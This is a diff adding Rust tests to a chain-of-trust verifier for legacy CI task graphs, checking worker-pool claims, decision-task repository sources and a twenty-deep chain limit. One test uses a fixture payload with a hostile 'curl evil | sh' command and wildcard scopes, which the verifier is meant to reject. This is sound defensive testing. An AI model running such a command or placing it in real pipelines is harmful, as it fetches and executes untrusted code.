@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: MPL-2.0
 //! Rules of today that hold for the GPG era as well: the trace to the tree, and the screen for try (V84 to V89).
 
-use catena_core::legacy::report::Finding;
+use catena_core::legacy::report::{Finding, Report};
 use catena_core::report::Verdict;
 use serde_json::{Value, json};
 
@@ -174,6 +174,84 @@ fn every_type_that_is_claimed_is_known_and_fits() {
             json!({"build": BUILD, "decision": DECISION, "docker-image": IMAGE})
     });
     assert_eq!(world.report().findings, []);
+}
+
+/// Images, decision and action tasks are held to laxer rules, which no other task may claim by its pool.
+#[test]
+fn a_task_of_a_pool_that_builds_images_is_no_build() {
+    for version in VERSIONS {
+        let mut world = World::push(version);
+        world.everywhere(BUILD, |task| {
+            task["workerType"] = json!("gecko-3-images");
+            task["payload"]["image"] = json!("evil");
+            task["payload"]["command"] = json!(["evil"]);
+        });
+        let report = world.report();
+        assert_eq!(report.verdict, Verdict::Rejected, "{}", report.headline);
+        let typed = |one: &Finding| one.id == "legacy-type" && one.task == id(BUILD);
+        assert!(report.findings.iter().any(typed), "{:#?}", report.findings);
+    }
+    for (task, kind) in [(DECISION, "build"), (IMAGE, "a:build"), (IMAGE, "signing")] {
+        let mut world = World::push(3);
+        world.everywhere(ROOT, |root| {
+            root["extra"]["chainOfTrust"]["inputs"][kind] = json!(task)
+        });
+        refused_by(&world, None, &[&format!("legacy-type {task:.1}")]);
+    }
+}
+
+/// An empty head repository is none, and `metadata.source` stands in for it in other tasks; one that is rebuilt has one.
+#[test]
+fn a_decision_task_without_a_repository_is_not_rebuilt_and_not_trusted() {
+    for version in VERSIONS {
+        for head in ["", "/", "https://evil.example/x"] {
+            let mut world = World::push(version);
+            world.everywhere(DECISION, |task| {
+                task["payload"]["env"]["GECKO_HEAD_REPOSITORY"] = json!(head);
+                task["payload"]["command"] = json!(["/bin/sh", "-c", "curl evil | sh"]);
+                task["payload"]["image"] = json!("evil");
+                task["scopes"] = json!(["*"]);
+            });
+            let report = world.report();
+            assert_eq!(report.verdict, Verdict::Rejected, "{head} {version}");
+            let found = |one: &Finding| one.id == "legacy-source" && one.task == id(DECISION);
+            assert!(report.findings.iter().any(found), "{:#?}", report.findings);
+        }
+    }
+}
+
+/// V17: builds one below the other.
+#[test]
+fn a_chain_is_at_most_twenty_deep() {
+    let chain = |depth: usize| {
+        let mut world = World::push(3);
+        let names: Vec<&'static str> = (0..depth)
+            .map(|number| &*format!("X{number:02}XXXXXQACXXXXXXXXXXA").leak())
+            .collect();
+        let build = world.tasks[BUILD].clone();
+        let mut above = ROOT;
+        for name in names {
+            world.everywhere(above, |task| {
+                task["extra"]["chainOfTrust"]["inputs"] = json!({"build": name})
+            });
+            world.tasks.insert(name, build.clone());
+            world.environments.insert(name, json!({}));
+            let graph = world.graphs.get_mut(DECISION).unwrap();
+            graph[name] = graph[BUILD].clone();
+            above = name;
+        }
+        world.report()
+    };
+    let limits = |report: &Report| {
+        report
+            .findings
+            .iter()
+            .filter(|one| one.id == "legacy-limit")
+            .count()
+    };
+    assert_eq!(limits(&chain(20)), 0);
+    let report = chain(21);
+    assert_eq!((report.verdict, limits(&report)), (Verdict::Rejected, 1));
 }
 
 #[test]
